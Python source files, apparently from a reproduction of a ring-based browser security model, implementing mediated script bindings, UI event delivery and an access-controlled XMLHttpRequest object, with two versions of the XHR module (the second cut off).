            return NativeFunction(self._append_child, "appendChild")
        if name == "removeChild":
            return NativeFunction(self._remove_child, "removeChild")
        if name == "addEventListener":
            return NativeFunction(self._add_event_listener, "addEventListener")
        if name == "querySelector":
            return NativeFunction(self._query_selector, "querySelector")
        if name == "querySelectorAll":
            return NativeFunction(self._query_selector_all, "querySelectorAll")
        if name == "value":
            return handle.get_attribute("value")
        raise RuntimeScriptError(f"element has no property {name!r}")

    # -- writes ------------------------------------------------------------------------

    def js_set(self, name: str, value) -> None:
        handle = self._handle
        if name == "innerHTML":
            handle.set_inner_html(str(value) if value is not None else "")
            return
        if name == "textContent" or name == "innerText":
            handle.set_text_content(str(value) if value is not None else "")
            return
        if name == "value":
            handle.set_attribute("value", str(value))
            return
        if name.startswith("on") and callable(value):
            self._add_event_listener(name[2:], value)
            return
        if name == "id" or name == "className":
            handle.set_attribute("id" if name == "id" else "class", str(value))
            return
        raise RuntimeScriptError(f"element property {name!r} is not writable")

    # -- helpers --------------------------------------------------------------------------

    def _append_child(self, child) -> bool:
        if isinstance(child, ElementBinding):
            return self._handle.append_child(child._handle)
        raise RuntimeScriptError("appendChild expects an element")

    def _remove_child(self, child) -> bool:
        if isinstance(child, ElementBinding):
            return self._handle.remove_child(child._handle)
        raise RuntimeScriptError("removeChild expects an element")

    def _add_event_listener(self, event_type, callback) -> bool:
        return self._runtime.register_listener(
            self._handle.unwrap_for_browser(), str(event_type), callback
        )

    def _query_selector(self, selector):
        found = self._handle.query_selector(str(selector))
        return ElementBinding(found, self._runtime) if found is not None else None

    def _query_selector_all(self, selector):
        return [ElementBinding(h, self._runtime) for h in self._handle.query_selector_all(str(selector))]


class DocumentBinding(HostObject):
    """The ``document`` global."""

    host_name = "Document"

    def __init__(self, dom_api: DomApi, runtime: "_PrincipalEnvironment") -> None:
        self._api = dom_api
        self._runtime = runtime

    def js_get(self, name: str):
        if name == "getElementById":
            return NativeFunction(self._get_element_by_id, "getElementById")
        if name == "querySelector":
            return NativeFunction(self._query_selector, "querySelector")
        if name == "querySelectorAll":
            return NativeFunction(self._query_selector_all, "querySelectorAll")
        if name == "getElementsByTagName":
            return NativeFunction(self._get_elements_by_tag_name, "getElementsByTagName")
        if name == "createElement":
            return NativeFunction(self._create_element, "createElement")
        if name == "write":
            return NativeFunction(self._write, "write")
        if name == "body":
            body = self._api.body
            return ElementBinding(body, self._runtime) if body is not None else None
        if name == "head":
            head = self._api.head
            return ElementBinding(head, self._runtime) if head is not None else None
        if name == "title":
            return self._api.title
        if name == "cookie":
            return self._runtime.read_cookies()
        if name == "location":
            return self._runtime.window.js_get("location")
        raise RuntimeScriptError(f"document has no property {name!r}")

    def js_set(self, name: str, value) -> None:
        if name == "cookie":
            self._runtime.write_cookie(str(value))
            return
        if name == "location":
            self._runtime.window.js_get("location").js_set("href", value)
            return
        raise RuntimeScriptError(f"document property {name!r} is not writable")

    # -- helpers ---------------------------------------------------------------------------

    def _wrap(self, handle: ElementHandle | None):
        return ElementBinding(handle, self._runtime) if handle is not None else None

    def _get_element_by_id(self, element_id):
        return self._wrap(self._api.get_element_by_id(str(element_id)))

    def _query_selector(self, selector):
        return self._wrap(self._api.query_selector(str(selector)))

    def _query_selector_all(self, selector):
        return [self._wrap(h) for h in self._api.query_selector_all(str(selector))]

    def _get_elements_by_tag_name(self, tag_name):
        return [self._wrap(h) for h in self._api.get_elements_by_tag_name(str(tag_name))]

    def _create_element(self, tag_name):
        return self._wrap(self._api.create_element(str(tag_name)))

    def _write(self, markup) -> bool:
        """``document.write``: append markup to the body (mediated)."""
        body = self._api.body
        if body is None:
            return False
        current = body.inner_html
        if current is None:
            return False
        return body.set_inner_html(current + str(markup))


class LocationBinding(HostObject):
    """``window.location``: navigation attempts are recorded, not performed."""

    host_name = "Location"

    def __init__(self, runtime: "_PrincipalEnvironment") -> None:
        self._runtime = runtime

    def js_get(self, name: str):
        url = self._runtime.page.url
        if name == "href":
            return str(url)
        if name == "host":
            return url.host
        if name == "pathname":
            return url.path
        if name == "protocol":
            return url.scheme + ":"
        if name == "search":
            return f"?{url.query}" if url.query else ""
        if name == "assign" or name == "replace":
            return NativeFunction(lambda target: self.js_set("href", target), name)
        raise RuntimeScriptError(f"location has no property {name!r}")

    def js_set(self, name: str, value) -> None:
        if name == "href":
            self._runtime.record_navigation(str(value))
            return
        raise RuntimeScriptError(f"location property {name!r} is not writable")


class WindowBinding(HostObject):
    """The ``window`` global."""

    host_name = "Window"

    def __init__(self, runtime: "_PrincipalEnvironment") -> None:
        self._runtime = runtime
        self._location = LocationBinding(runtime)

    def js_get(self, name: str):
        if name == "alert":
            return NativeFunction(self._runtime.record_alert, "alert")
        if name == "location":
            return self._location
        if name == "setTimeout":
            return NativeFunction(self._set_timeout, "setTimeout")
        if name == "clearTimeout":
            return NativeFunction(self._clear_timeout, "clearTimeout")
        if name == "document":
            return self._runtime.document_binding
        if name == "console":
            return self._runtime.console_binding
        raise RuntimeScriptError(f"window has no property {name!r}")

    def js_set(self, name: str, value) -> None:
        if name == "location":
            self._location.js_set("href", value)
            return
        raise RuntimeScriptError(f"window property {name!r} is not writable")

    def _set_timeout(self, callback, delay=0.0):
        """``setTimeout``: queue the callback on the page's event loop.

        The callback runs under the registering principal when the loop
        reaches its due time -- *after* the current script, which is the
        deferred-execution window the async attack scenarios exercise.
        Returns the timer id for ``clearTimeout``.
        """
        environment = self._runtime
        try:
            delay_ms = float(delay)
        except (TypeError, ValueError):
            delay_ms = 0.0

        def fire() -> None:
            # The id is spent either way (fired or cleared); dropping it
            # keeps the registry bounded on pages that re-arm polling timers.
            environment.own_timers.discard(timer_id)
            environment.invoke(callback, [])

        timer_id = environment.page.event_loop.set_timeout(
            fire,
            delay_ms,
            label=f"timer:{environment.principal.label}",
        )
        environment.own_timers.add(timer_id)
        return float(timer_id)

    def _clear_timeout(self, timer_id) -> bool:
        """``clearTimeout``: cancel one of *this environment's own* timers.

        Timer ids share the page loop's sequence across every principal, so
        a guessed id must not let a script cancel another principal's
        deferred callback -- an unmediated, unaudited interference channel.
        Only ids this environment registered are honoured.
        """
        try:
            task_id = int(timer_id)
        except (TypeError, ValueError):
            return False
        if task_id not in self._runtime.own_timers:
            return False
        self._runtime.own_timers.discard(task_id)
        return self._runtime.page.event_loop.clear_timeout(task_id)


class ConsoleBinding(HostObject):
    """``console.log`` (collected per runtime for tests and examples)."""

    host_name = "Console"

    def __init__(self, sink: list[str]) -> None:
        self._sink = sink

    def js_get(self, name: str):
        if name in ("log", "info", "warn", "error"):
            return NativeFunction(self._log, name)
        raise RuntimeScriptError(f"console has no property {name!r}")

    def _log(self, *parts) -> None:
        from repro.scripting.interpreter import _to_string

        self._sink.append(" ".join(_to_string(part) for part in parts))


@dataclass
class RuntimeObservations:
    """Side effects collected across every script run on a page."""

    alerts: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)
    navigations: list[tuple[str, str]] = field(default_factory=list)  # (principal label, target URL)

    def navigation_targets(self) -> list[str]:
        """Just the attempted navigation URLs."""
        return [target for _, target in self.navigations]


class _PrincipalEnvironment:
    """Everything one principal's script execution needs."""

    def __init__(self, runtime: "ScriptRuntime", principal: SecurityContext) -> None:
        self.runtime = runtime
        self.page = runtime.page
        self.principal = principal
        self.interpreter = runtime.make_engine()
        self.dom_api = DomApi(
            self.page.document,
            self.page.monitor,
            principal,
            api_object=runtime.dom_api_object,
            listener_registry=self._register_raw_listener,
        )
        self.document_binding = DocumentBinding(self.dom_api, self)
        self.console_binding = ConsoleBinding(runtime.observations.console)
        self.window = WindowBinding(self)
        #: Timer ids this environment registered -- the only ones its
        #: clearTimeout may cancel (cross-principal cancellation would be an
        #: unmediated interference channel).
        self.own_timers: set[int] = set()
        #: Digest of the source this environment executes; set by the
        #: runtime's entry points when a static screen is attached so every
        #: monitor decision -- including ones from deferred timers,
        #: listeners and async XHR completions -- lands on the right script.
        self.digest: str | None = None
        self._install_globals()

    # -- environment ------------------------------------------------------------------

    def _install_globals(self) -> None:
        interpreter = self.interpreter
        interpreter.globals.define("document", self.document_binding)
        interpreter.globals.define("window", self.window)
        interpreter.globals.define("console", self.console_binding)
        interpreter.globals.define("alert", NativeFunction(self.record_alert, "alert"))
        interpreter.globals.define("location", self.window.js_get("location"))
        interpreter.globals.define("setTimeout", self.window.js_get("setTimeout"))
        interpreter.globals.define("clearTimeout", self.window.js_get("clearTimeout"))
        interpreter.globals.define(
            "XMLHttpRequest",
            NativeConstructor(
                lambda *args: XmlHttpRequest(
                    self.runtime.browser,
                    self.page,
                    self.principal,
                    invoke=self.invoke,
                    scope=self.mediation_scope,
                ),
                "XMLHttpRequest",
            ),
        )

    def mediation_scope(self):
        """Context manager attributing monitor decisions to this script.

        Returns a no-op when no static screen is attached, so the unscreened
        hot path stays allocation-free apart from one ``nullcontext``.
        """
        screen = self.runtime.screen
        if screen is None or self.digest is None:
            return nullcontext()
        return screen.attribute(self.digest)

    # -- cookies -----------------------------------------------------------------------

    def read_cookies(self) -> str:
        """``document.cookie`` getter for this principal."""
        return self.runtime.browser.read_cookie_string(self.page, self.principal)

    def write_cookie(self, cookie_string: str) -> bool:
        """``document.cookie`` setter for this principal."""
        return self.runtime.browser.write_cookie_string(self.page, self.principal, cookie_string)

    # -- observations ---------------------------------------------------------------------

    def record_alert(self, *parts) -> None:
        from repro.scripting.interpreter import _to_string

        self.runtime.observations.alerts.append(" ".join(_to_string(p) for p in parts))

    def record_navigation(self, target: str) -> None:
        self.runtime.observations.navigations.append((self.principal.label, target))

    # -- listeners & callbacks ---------------------------------------------------------------

    def register_listener(self, element: Element, event_type: str, callback) -> bool:
        """Register ``callback`` (a script function) for later dispatch."""
        handle = self.dom_api.wrap(element)
        return handle.add_event_listener(event_type, callback)

    def _register_raw_listener(self, element: Element, event_type: str, callback) -> None:
        """Hook invoked by the DOM API once the ``write`` check passed."""
        principal = self.principal
        environment = self

        def dispatcher_callback(event) -> None:
            payload = {
                "type": event.event_type,
                "targetId": event.target.id if event.target is not None else None,
            }
            environment.invoke(callback, [payload])

        self.page.register_listener(
            RegisteredListener(
                element=element,
                event_type=event_type,
                callback=dispatcher_callback,
                principal=principal,
            )
        )

    def invoke(self, callback, args: list):
        """Invoke a script function (or native callable) in this environment.

        Runs inside :meth:`mediation_scope` because this is how *deferred*
        work re-enters the engine -- timer callbacks, event listeners and
        XHR completion handlers all fire through here, long after the
        originating script's top-level execution returned.
        """
        try:
            with self.mediation_scope():
                return self.interpreter.call_function(callback, args)
        except Exception as error:  # noqa: BLE001 - script faults must not kill the browser
            self.runtime.observations.console.append(f"[script error] {error}")
            return None


class ScriptRuntime:
    """Runs all the script principals of one page."""

    def __init__(
        self,
        browser,
        page: Page,
        *,
        max_steps: int = 500_000,
        ast_cache: ScriptAstCache | None = None,
        code_cache: ScriptCodeCache | None = None,
        engine: str = "vm",
        screen=None,
    ) -> None:
        if engine not in ("vm", "walker"):
            raise ValueError(f"unknown script engine {engine!r} (expected 'vm' or 'walker')")
        self.browser = browser
        self.page = page
        self.max_steps = max_steps
        #: Optional shared front-end cache: repeated executions of the same
        #: source (re-loaded pages, replayed handlers, re-armed timers) skip
        #: lexing and parsing entirely.
        self.ast_cache = ast_cache
        #: Optional shared back-end cache: memoises the compiled bytecode one
        #: tier below the AST cache (only consulted by the ``vm`` engine).
        self.code_cache = code_cache
        #: ``"vm"`` (bytecode, default) or ``"walker"`` (the reference AST
        #: interpreter, kept selectable for differential parity runs).
        self.engine = engine
        #: Optional :class:`~repro.analysis.soundness.StaticScreen` -- when
        #: set, every executed source is statically analyzed (memoised) and
        #: every monitor decision is attributed to the causing script.
        self.screen = screen
        self.observations = RuntimeObservations()
        # Resolved once per runtime: every principal's DOM facade shares the
        # same API object context, and building it per script execution costs
        # more than the cached ``use`` checks it gates.  Frozen value, so
        # sharing is safe across environments.
        self.dom_api_object = page.dom_api_context()

    # -- execution entry points ----------------------------------------------------------

    def run_document_scripts(self) -> list[ScriptRun]:
        """Execute every ``<script>`` element in document order."""
        runs: list[ScriptRun] = []
        for index, script_element in enumerate(self.page.document.scripts()):
            source = self._script_source(script_element)
            if not source.strip():
                continue
            principal = self.page.principal_context_for(script_element)
            description = f"script#{index} ring {principal.ring.level}"
            runs.append(self.execute(source, principal, description=description))
        return runs

    def execute(self, source: str, principal: SecurityContext, *, description: str = "inline script") -> ScriptRun:
        """Execute one script under ``principal`` and record the run."""
        environment = _PrincipalEnvironment(self, principal)
        self._screen_source(environment, source)
        with environment.mediation_scope():
            result = self._run_source(environment.interpreter, source)
        run = ScriptRun(description=description, principal=principal, result=result)
        self.page.script_runs.append(run)
        return run

    def execute_handler(self, source: str, principal: SecurityContext, event_payload: dict, *,
                        description: str = "inline handler") -> ScriptRun:
        """Execute an inline event handler with ``event`` bound."""
        environment = _PrincipalEnvironment(self, principal)
        environment.interpreter.globals.define("event", event_payload)
        self._screen_source(environment, source)
        with environment.mediation_scope():
            result = self._run_source(environment.interpreter, source)
        run = ScriptRun(description=description, principal=principal, result=result)
        self.page.script_runs.append(run)
        return run

    def _screen_source(self, environment: "_PrincipalEnvironment", source: str) -> None:
        """Analyze ``source`` (memoised) and bind its digest for attribution."""
        if self.screen is None:
            return
        parse = self.ast_cache.parse if self.ast_cache is not None else None
        environment.digest = self.screen.observe_script(source, parse=parse)

    # -- helpers --------------------------------------------------------------------------------

    def make_engine(self):
        """Build one principal's execution engine (VM unless ``--ast-walker``)."""
        if self.engine == "walker":
            return Interpreter(max_steps=self.max_steps)
        return VirtualMachine(max_steps=self.max_steps)

    def _run_source(self, interpreter, source: str) -> ExecutionResult:
        """Run ``source`` through whatever compile tiers are configured.

        The cached paths are observably identical to ``interpreter.run(source)``:
        a (possibly memoised) front-end error yields the same failed
        :class:`ExecutionResult` a cold parse would, and cached bytecode
        re-executes through the same mediated host calls.
        """
        if self.engine == "vm" and self.code_cache is not None:
            # Full tiering: source digest -> bytecode (which itself fronts
            # through the AST cache on a code-cache miss).
            parse = self.ast_cache.parse if self.ast_cache is not None else parse_script
            try:
                code = self.code_cache.code_for(source, parse=parse)
            except ScriptError as error:
                return ExecutionResult(error=error, completed=False)
            return interpreter.run(code)
        if self.ast_cache is None:
            return interpreter.run(source)
        try:
            program = self.ast_cache.parse(source)
        except ScriptError as error:
            return ExecutionResult(error=error, completed=False)
        return interpreter.run(program)

    def _script_source(self, script_element: Element) -> str:
        """Inline source, or the fetched body of a ``src`` script."""
        src = script_element.get_attribute("src")
        if not src:
            return script_element.text_content
        principal = self.page.principal_context_for(script_element)
        target = self.page.url.resolve(src)
        response = self.browser.issue_request(
            page=self.page,
            principal=principal,
            method="GET",
            url=target,
            initiator_label=f"script-src:{src}",
        )
        return response.body if response.ok else ""
