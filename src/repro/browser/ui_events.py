"""UI event delivery.

The paper treats delivering a UI event to a DOM element as a ``use`` access
on that element.  Events triggered by the real user are delivered by the
browser itself (a trusted, ring-0 principal), so they reach any element;
events synthesised by a script are delivered *as that script*, so a
low-privilege script cannot poke handlers attached to high-privilege
content.

Once an element legitimately receives an event, two kinds of handlers run:

* inline ``on<type>`` attributes execute with the *element's* security
  context (the handler text is part of that element's scope);
* listeners registered through ``addEventListener`` execute with the context
  of the principal that registered them (captured at registration time).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.context import SecurityContext
from repro.core.decision import Operation
from repro.dom.element import Element
from repro.dom.events import Event

from .page import Page
from .script_runtime import ScriptRuntime


@dataclass
class UiEventResult:
    """What happened when one event was fired."""

    event_type: str
    target_description: str
    delivered_to: list[str] = field(default_factory=list)
    blocked_at: list[str] = field(default_factory=list)
    inline_handlers_run: int = 0
    listeners_run: int = 0

    @property
    def delivered(self) -> bool:
        """True when at least one element received the event."""
        return bool(self.delivered_to)


class UiEventLayer:
    """Mediated event firing for one page."""

    def __init__(self, page: Page, runtime: ScriptRuntime) -> None:
        self.page = page
        self.runtime = runtime

    def fire(
        self,
        element: Element,
        event_type: str,
        *,
        user_initiated: bool = True,
        synthesizing_principal: SecurityContext | None = None,
        detail: dict | None = None,
    ) -> UiEventResult:
        """Fire ``event_type`` at ``element`` and run the authorised handlers.

        Dispatch is routed through the page's event loop: the delivery is
        posted as a macrotask due *now* and the loop's time-zero horizon is
        settled before returning.  Tasks already due -- zero-delay timers,
        under a seeded interleave possibly ordered ahead of the dispatch --
        genuinely run in queue order around it, and immediate follow-up work
        a handler schedules completes too, while positively-delayed timers
        stay queued for the caller to advance.
        """
        result = UiEventResult(
            event_type=event_type,
            target_description=f"<{element.tag_name}>" + (f"#{element.id}" if element.id else ""),
        )
        self.page.event_loop.post(
            lambda: self._dispatch(element, event_type, user_initiated,
                                   synthesizing_principal, detail, result),
            kind="dispatch",
            label=f"event:{event_type}",
        )
        self.page.event_loop.settle()
        return result

    def _dispatch(
        self,
        element: Element,
        event_type: str,
        user_initiated: bool,
        synthesizing_principal: SecurityContext | None,
        detail: dict | None,
        result: UiEventResult,
    ) -> None:
        """The queued delivery task: mediate the path and run handlers."""
        if user_initiated or synthesizing_principal is None:
            principal = self.page.browser_principal()
        else:
            principal = synthesizing_principal
        if user_initiated:
            principal = principal.with_label("user/browser")

        event = Event(event_type=event_type, target=element, detail=detail or {})

        # Batch step: pre-label the whole propagation path and warm the
        # monitor's decision cache in one grouped pass, so the per-element
        # ``use`` checks during dispatch are cache hits.  Warming records
        # nothing -- elements the event never reaches (stopPropagation) still
        # produce no audited access.
        labeled_targets: dict[int, SecurityContext] = {}
        for candidate in self.page.dispatcher.propagation_path(element):
            context = candidate.security_context
            if context is not None:
                labeled_targets[id(candidate)] = context.with_label(
                    f"<{candidate.tag_name}> (event target)"
                )
        self.page.monitor.warm(principal, labeled_targets.values(), Operation.USE)

        def deliverable(candidate: Element) -> bool:
            target_context = labeled_targets.get(id(candidate))
            if target_context is None:
                context = candidate.security_context
                if context is None:
                    return True
                target_context = context.with_label(f"<{candidate.tag_name}> (event target)")
            decision = self.page.monitor.authorize(principal, target_context, Operation.USE)
            label = f"<{candidate.tag_name}>" + (f"#{candidate.id}" if candidate.id else "")
            if decision.allowed:
                result.delivered_to.append(label)
            else:
                result.blocked_at.append(label)
            return decision.allowed

        delivered_elements = self.page.dispatcher.dispatch(event, deliverable=deliverable)
        result.listeners_run = sum(
            len(self.page.listeners_on(el, event_type)) for el in delivered_elements
        )

        # Inline handlers on the delivered elements.
        handler_attribute = event.handler_attribute
        for candidate in delivered_elements:
            source = candidate.event_handlers.get(handler_attribute)
            if not source:
                continue
            handler_principal = self.page.principal_context_for(candidate)
            payload = {"type": event_type, "targetId": element.id}
            self.runtime.execute_handler(
                source,
                handler_principal,
                payload,
                description=f"{handler_attribute} on <{candidate.tag_name}>",
            )
            result.inline_handlers_run += 1

    def fire_by_id(self, element_id: str, event_type: str, **kwargs) -> UiEventResult:
        """Convenience: fire at the element with ``id`` (raises if missing)."""
        element = self.page.document.get_element_by_id(element_id)
        if element is None:
            raise ValueError(f"no element with id {element_id!r}")
        return self.fire(element, event_type, **kwargs)
