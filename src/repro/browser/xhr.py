"""The ``XMLHttpRequest`` native API.

``XMLHttpRequest`` is one of the native-code objects of Table 1: web
applications may assign it a ring via the ``X-Escudo-Api-Policy`` header
(default: ring 0, fail-safe), and a script may only *use* it when its ring
passes the ACL's ``use`` entry.  A denied ``send()`` is neutralised -- the
request never reaches the network, ``status`` stays 0 and ``responseText``
stays empty -- mirroring how the prototype blocks unauthorised AJAX.

Completion goes through the page's event loop.  ``send()`` always enqueues
a completion task; for the default synchronous mode (two-argument
``open()``) the task runs in place, while ``open(method, url, true)``
leaves it queued until the loop is advanced or drained.  The ``use``
mediation lives inside the completion task, so the decision is made against
the policy *at completion time* -- a policy swapped between ``send()`` and
completion governs the outcome (the TOCTOU rule the deferred-attack
scenarios pin down), and either way the decision lands in the page's audit
log.

Requests that are allowed go through the browser's common request path, so
cookie attachment is mediated exactly like for form submissions and links.
"""

from __future__ import annotations

from typing import Callable

from repro.core.context import SecurityContext
from repro.core.decision import Operation
from repro.faults.plan import (
    SITE_XHR,
    XHR_BACKOFF_BASE_MS,
    XHR_BACKOFF_CAP_MS,
    XHR_RETRY_ATTEMPTS,
)
from repro.http.headers import Headers
from repro.scripting.errors import RuntimeScriptError
from repro.scripting.interpreter import HostObject, NativeFunction

from .event_loop import XHR_COMPLETION_LATENCY_MS, ScheduledTask
from .page import Page


class XmlHttpRequest(HostObject):
    """Script-visible XHR object bound to one principal on one page."""

    host_name = "XMLHttpRequest"

    def __init__(
        self,
        browser,
        page: Page,
        principal: SecurityContext,
        *,
        invoke: Callable[[object, list], object] | None = None,
        scope: Callable[[], object] | None = None,
    ) -> None:
        self._browser = browser
        self._page = page
        self._principal = principal
        self._invoke = invoke
        #: Zero-arg factory returning a context manager (the owning
        #: environment's ``mediation_scope``).  Completion runs inside it so
        #: the USE check and cookie sweep of an *async* request -- which
        #: fire from the event loop, far from any script frame -- are still
        #: attributed to the script that sent it.
        self._scope = scope
        self._method = "GET"
        self._url_text: str | None = None
        self._async = False
        self._request_headers = Headers()
        self._response_headers = Headers()
        self._pending: ScheduledTask | None = None
        self.status = 0.0
        self.response_text = ""
        self.ready_state = 0.0
        self._onload = None
        self._onreadystatechange = None
        self.denied = False
        # Exactly-once completion accounting under the fault plane: every
        # send() gets a fresh generation; only the completion carrying the
        # *current* generation may deliver, and only once.  Without a fault
        # plan the counters are inert (one send, one completion).
        self._send_generation = 0
        self._delivered_generation = 0

    # -- script-facing protocol ------------------------------------------------------

    #: Method properties (wrapped lazily per access; the dynamic fields are
    #: answered directly so a property read does not build every wrapper).
    _METHODS = {
        "open": "_open",
        "send": "_send",
        "setRequestHeader": "_set_request_header",
        "getResponseHeader": "_get_response_header",
        "abort": "_abort",
    }

    def js_get(self, name: str):
        if name == "status":
            return self.status
        if name == "responseText":
            return self.response_text
        if name == "readyState":
            return self.ready_state
        if name == "onload":
            return self._onload
        if name == "onreadystatechange":
            return self._onreadystatechange
        method = self._METHODS.get(name)
        if method is None:
            raise RuntimeScriptError(f"XMLHttpRequest has no property {name!r}")
        return NativeFunction(getattr(self, method), name)

    def js_set(self, name: str, value) -> None:
        if name == "onload":
            self._onload = value
            return
        if name == "onreadystatechange":
            self._onreadystatechange = value
            return
        raise RuntimeScriptError(f"XMLHttpRequest property {name!r} is not writable")

    # -- behaviour ----------------------------------------------------------------------

    def _open(self, method, url, async_flag=None, *_ignored) -> None:
        """``open()``: (re)arm the object, clearing every per-request field.

        A reused object must not carry state from a previous request: an
        earlier denial, status, response body or buffered response headers
        would otherwise misreport the new request (the sticky-``denied``
        bug this reset fixes).  A completion still queued from a previous
        ``send()`` is cancelled outright.
        """
        self._reset_request_state(clear_request_headers=True)
        self._method = str(method).upper()
        self._url_text = str(url)
        self._async = bool(async_flag)
        self.ready_state = 1.0

    def _set_request_header(self, name, value) -> None:
        self._request_headers.set(str(name), str(value))

    def _get_response_header(self, name) -> str | None:
        return self._response_headers.get(str(name))

    def _abort(self) -> None:
        """``abort()``: cancel any queued completion and reset the object.

        The author request headers, buffered response headers and the
        ``denied`` flag are cleared too, so an aborted object can be reused
        for a fresh request without carrying the aborted one's state.  The
        object is fully *disarmed*: the method/URL are dropped as well, so
        a ``send()`` without a fresh ``open()`` fails like on a new object
        instead of silently replaying the aborted request.
        """
        self._reset_request_state(clear_request_headers=True)
        self._method = "GET"
        self._url_text = None
        self._async = False
        self.ready_state = 0.0

    def _send(self, body=None) -> None:
        if self._url_text is None:
            raise RuntimeScriptError("XMLHttpRequest.send() called before open()")

        # Re-sending on the same object keeps the author request headers
        # (the caller configured them for this request); everything else
        # from the previous request is dropped.
        self._reset_request_state(clear_request_headers=False)

        payload = str(body) if body is not None else ""
        self._send_generation += 1
        generation = self._send_generation
        loop = self._page.event_loop
        task = self._post_completion(payload, generation)
        if self._async:
            self.ready_state = 2.0
            if task.cancelled:
                # The fault plane lost the queued completion; schedule the
                # first backoff retry (a no-op without retries armed).
                self._pending = None
                self._schedule_retry(payload, generation, attempt=1)
            return
        # Synchronous path: re-post in place when the plane keeps losing the
        # completion.  Bounded; the burst cap guarantees convergence well
        # inside the cap when retries are armed.
        for _attempt in range(XHR_RETRY_ATTEMPTS):
            if not task.cancelled:
                self._pending = None
                loop.run_task(task)
                return
            plan = self._fault_plan()
            if plan is None or not plan.retries:
                # Lost for good: the request never completes (status stays 0).
                self._pending = None
                return
            plan.stats.note_retry(SITE_XHR)
            task = self._post_completion(payload, generation)
        self._pending = None

    def _post_completion(self, payload: str, generation: int) -> ScheduledTask:
        """Enqueue the completion task for ``generation`` (shared by retries)."""
        task = self._page.event_loop.post(
            lambda: self._complete(payload, generation),
            delay=XHR_COMPLETION_LATENCY_MS if self._async else 0.0,
            kind="xhr",
            label=f"xhr:{self._method} {self._url_text}",
        )
        self._pending = task
        return task

    def _fault_plan(self):
        return getattr(self._browser, "fault_plan", None)

    def _schedule_retry(self, payload: str, generation: int, attempt: int) -> None:
        """Capped exponential virtual-clock backoff for a lost async completion."""
        plan = self._fault_plan()
        if plan is None or not plan.retries or attempt > XHR_RETRY_ATTEMPTS:
            return
        delay = min(XHR_BACKOFF_CAP_MS, XHR_BACKOFF_BASE_MS * (2 ** (attempt - 1)))
        plan.stats.note_retry(SITE_XHR, latency_ms=delay)
        self._page.event_loop.set_timeout(
            lambda: self._retry_send(payload, generation, attempt),
            delay,
            label=f"xhr-retry:{attempt}",
        )

    def _retry_send(self, payload: str, generation: int, attempt: int) -> None:
        """Backoff timer body: re-post the completion unless superseded."""
        if generation != self._send_generation or self._delivered_generation >= generation:
            return
        task = self._post_completion(payload, generation)
        if task.cancelled:
            self._pending = None
            self._schedule_retry(payload, generation, attempt + 1)
        else:
            plan = self._fault_plan()
            if plan is not None:
                plan.stats.note_recovery()

    def _complete(self, body: str, generation: int) -> None:
        """The queued completion: mediation *and* delivery happen here.

        Running the ``use`` check at completion time (not at ``send()``)
        is what makes the decision reflect policy changes that landed while
        the task was queued.

        Exactly-once guard: a completion whose generation was superseded by
        a newer ``send()``/``open()``, or already delivered (the fault
        plane's duplicated task), is suppressed before any state or callback
        is touched.  Every completion that *does* deliver runs the full
        mediation below -- duplication can never bypass the USE check, so a
        denied request stays denied under any fault schedule (fail-closed).
        """
        if generation != self._send_generation or self._delivered_generation >= generation:
            plan = self._fault_plan()
            if plan is not None:
                plan.stats.note_suppressed()
            return
        self._delivered_generation = generation
        if self._scope is not None:
            with self._scope():
                self._complete_inner(body)
        else:
            self._complete_inner(body)

    def _complete_inner(self, body: str) -> None:
        self._pending = None

        # Mediation: the principal must be allowed to *use* the XHR API
        # object.  The fast-path predicate is fully recorded like
        # authorize(); repeated completions by the same principal are
        # decision-cache hits.
        api_context = self._page.api_context("XMLHttpRequest")
        if not self._page.monitor.allows(
            self._principal,
            api_context,
            Operation.USE,
            object_label="XMLHttpRequest (native-api)",
        ):
            self.denied = True
            self.status = 0.0
            self.response_text = ""
            self.ready_state = 4.0
            self._fire_callbacks()
            return

        target = self._page.url.resolve(self._url_text)
        response = self._browser.issue_request(
            page=self._page,
            principal=self._principal,
            method=self._method,
            url=target,
            body=body,
            headers=self._request_headers,
            initiator_label=f"xhr:{self._principal.label}",
        )
        self.status = float(response.status)
        self.response_text = response.body
        self._response_headers = response.headers
        self.ready_state = 4.0
        self._fire_callbacks()

    def _reset_request_state(self, *, clear_request_headers: bool) -> None:
        """Drop every per-request field so a reused object starts clean.

        The one deliberate asymmetry: ``send()`` without a fresh ``open()``
        keeps the author request headers (they were set for the request
        being resent), while ``open()`` and ``abort()`` clear them.  Any
        field missed here recreates the sticky-state bug class this method
        exists to prevent.
        """
        self._cancel_pending()
        if clear_request_headers:
            self._request_headers = Headers()
        self._response_headers = Headers()
        self.status = 0.0
        self.response_text = ""
        self.denied = False

    def _cancel_pending(self) -> None:
        if self._pending is not None:
            self._page.event_loop.cancel(self._pending.task_id)
            self._pending = None

    def _fire_callbacks(self) -> None:
        for callback in (self._onreadystatechange, self._onload):
            if callback is None or self._invoke is None:
                continue
            self._invoke(callback, [])
