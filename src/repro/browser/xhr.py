"""The ``XMLHttpRequest`` native API.

``XMLHttpRequest`` is one of the native-code objects of Table 1: web
applications may assign it a ring via the ``X-Escudo-Api-Policy`` header
(default: ring 0, fail-safe), and a script may only *use* it when its ring
passes the ACL's ``use`` entry.  A denied ``send()`` is neutralised -- the
request never reaches the network, ``status`` stays 0 and ``responseText``
stays empty -- mirroring how the prototype blocks unauthorised AJAX.

Requests that are allowed go through the browser's common request path, so
cookie attachment is mediated exactly like for form submissions and links.
"""

from __future__ import annotations

from typing import Callable

from repro.core.context import SecurityContext
from repro.core.decision import Operation
from repro.http.headers import Headers
from repro.scripting.errors import RuntimeScriptError
from repro.scripting.interpreter import HostObject, NativeFunction

from .page import Page


class XmlHttpRequest(HostObject):
    """Script-visible XHR object bound to one principal on one page."""

    host_name = "XMLHttpRequest"

    def __init__(
        self,
        browser,
        page: Page,
        principal: SecurityContext,
        *,
        invoke: Callable[[object, list], object] | None = None,
    ) -> None:
        self._browser = browser
        self._page = page
        self._principal = principal
        self._invoke = invoke
        self._method = "GET"
        self._url_text: str | None = None
        self._request_headers = Headers()
        self._response_headers = Headers()
        self.status = 0.0
        self.response_text = ""
        self.ready_state = 0.0
        self._onload = None
        self._onreadystatechange = None
        self.denied = False

    # -- script-facing protocol ------------------------------------------------------

    def js_get(self, name: str):
        members = {
            "open": NativeFunction(self._open, "open"),
            "send": NativeFunction(self._send, "send"),
            "setRequestHeader": NativeFunction(self._set_request_header, "setRequestHeader"),
            "getResponseHeader": NativeFunction(self._get_response_header, "getResponseHeader"),
            "abort": NativeFunction(self._abort, "abort"),
            "status": self.status,
            "responseText": self.response_text,
